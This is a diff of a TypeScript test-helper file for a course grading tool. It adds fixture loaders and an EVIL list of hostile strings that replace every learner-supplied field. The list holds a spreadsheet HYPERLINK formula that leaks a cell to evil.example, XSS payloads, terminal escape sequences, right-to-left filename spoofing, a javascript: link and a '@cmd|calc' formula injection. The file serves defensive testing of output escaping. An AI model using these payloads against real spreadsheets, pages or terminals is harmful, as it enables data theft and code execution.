@@ -1,63 +1,68 @@
-import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
-import { mkdir, writeFile } from 'node:fs/promises';
-import { tmpdir } from 'node:os';
-import { dirname, join } from 'node:path';
-import { afterAll } from 'vitest';
-import { packageRoot, type Track } from '../../course/index.js';
-import {
-  type StagedSubmission,
-  type StageOptions,
-  type Submission,
-  stageSubmission,
-} from '../../grading/submissions/index.js';
+/** A class of real results, and the same class with everything hostile that a learner can write. */
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { gunzipSync } from 'node:zlib';
+import type { Bundle } from '../../checker/check.js';
+import type { ClassGrades, LearnerGrade } from '../../grading/types.js';
 
-const made: string[] = [];
-afterAll(() => {
-  for (const folder of made) rmSync(folder, { recursive: true, force: true });
-});
+const fixtures = fileURLToPath(new URL('fixtures', import.meta.url));
 
-/** A folder that is gone after the tests of the file. */
-export function temporary(): string {
-  const folder = mkdtempSync(join(tmpdir(), 'intake-'));
-  made.push(folder);
-  return folder;
+/** Made by `scripts/grading-fixture.mjs`: twelve learners, five lessons. */
+export function classGrades(): ClassGrades {
+  return JSON.parse(readFileSync(join(fixtures, 'class.json'), 'utf8'));
 }
 
-/** Writes files by relative path. */
-export async function write(folder: string, files: Readonly<Record<string, string | Uint8Array>>) {
-  for (const [path, data] of Object.entries(files)) {
-    await mkdir(dirname(join(folder, path)), { recursive: true });
-    await writeFile(join(folder, path), data);
-  }
-  return folder;
+const bundles: Record<string, Bundle> = JSON.parse(
+  gunzipSync(readFileSync(join(fixtures, 'bundles.json.gz'))).toString(),
+);
+
+export const bundleOf = (learner: string, lesson: string): Bundle | undefined =>
+  bundles[`${learner}/${lesson}`];
+
+export function learnerOf(grades: ClassGrades, id: string): LearnerGrade {
+  const found = grades.learners.find(one => one.learner.id === id);
+  if (!found) throw new Error(`no learner ${id}`);
+  return found;
 }
 
-export const stub = (lesson: string, track: Track, name: string) =>
-  readFileSync(join(packageRoot(), 'exercises', lesson, track, name), 'utf8');
-export const solution = (lesson: string, track: Track, name: string) =>
-  readFileSync(join(packageRoot(), 'solutions', lesson, track, name), 'utf8');
+/** What a learner could put into a name, a topic, a payload, an output. */
+export const EVIL = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  '<script>alert(1)</script><img src=x onerror=alert(2)>',
+  '"><svg onload=alert(3)>\'--></style></script><!--',
+  '\u001B[31mred\u001B]8;;http://evil.example\u0007link\u001B]8;;\u0007\u0007',
+  '\u202Egnp.exe\u2066\u200B\uFEFF',
+  '``` ]]> </code> [x](javascript:alert(4)) ![y](http://evil.example/z.png) | # * _',
+  '\uD800 half \u0000\u0001\uFFFF @cmd|calc +1 -1',
+] as const;
 
-/** A submission of that kind, as the listing would give it. */
-export function submission(path: string, kind: Submission['kind']): Submission {
-  return { name: 'ada', path, kind, learner: { id: 'ada' }, learnerFrom: 'folder' };
-}
-
-/** Stages into a folder of its own. */
-export async function stage(
-  path: string,
-  kind: Submission['kind'],
-  options: Partial<StageOptions> = {},
-): Promise<StagedSubmission> {
-  return stageSubmission(submission(path, kind), {
-    lessons: ['05-wildcards'],
-    into: temporary(),
-    ...options,
-  });
-}
-
-/** What was staged for a lesson, by name. */
-export function stagedText(staged: StagedSubmission, lesson: string, name: string): string {
-  const exercise = staged.exercises.get(lesson);
-  if (!exercise) throw new Error(`nothing was staged for ${lesson}`);
-  return readFileSync(join(exercise.folder, name), 'utf8');
+/** Every text that can come from a learner says something hostile. */
+export function hostileClass(): ClassGrades {
+  const grades = classGrades();
+  const evil = EVIL.join('\n');
+  const texts = new Set(['seen', 'expected', 'why', 'try', 'stdout', 'stderr', 'submission']);
+  const poison = (value: unknown, key = ''): unknown => {
+    if (typeof value === 'string') return texts.has(key) ? evil : value;
+    if (Array.isArray(value))
+      return value.map(one => (key === 'notices' ? evil : poison(one, key)));
+    if (value === null || typeof value !== 'object') return value;
+    return Object.fromEntries(
+      Object.entries(value).map(([name, one]) => [name, poison(one, name)]),
+    );
+  };
+  const poisoned = poison(grades) as ClassGrades;
+  return {
+    ...poisoned,
+    title: evil,
+    unexpected: [evil],
+    learners: poisoned.learners.map((one, at) => ({
+      ...one,
+      learner: {
+        id: `${EVIL[at % EVIL.length]}${at}`,
+        name: EVIL[(at + 1) % EVIL.length] ?? '',
+        email: `${EVIL[(at + 2) % EVIL.length]}@x`,
+      },
+    })),
+  };
 }
